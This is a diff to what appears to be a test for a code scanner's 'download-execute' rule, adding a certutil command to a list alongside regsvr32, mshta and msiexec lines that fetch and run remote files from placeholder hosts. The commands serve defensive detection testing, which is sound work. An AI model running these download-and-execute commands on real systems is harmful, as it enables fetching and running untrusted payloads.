@@ -608,6 +608,7 @@ test('Windows programs that run what they fetch (regsvr32 /i:http, mshta http, m
     'regsvr32 /s /n /u /i:http://192.0.2.9/x.sct scrobj.dll',
     'mshta http://192.0.2.9/x.hta',
     'msiexec /q /i https://files.example/app.msi',
+    'certutil -urlcache -split -f http://192.0.2.9/a.exe a.exe && a.exe',
   ]) {
     const found = ruleOf(findings(`import os\ndef go():\n    os.system("${command}")\n`), 'download-execute');
     assert.equal(found?.severity, 'high', command);
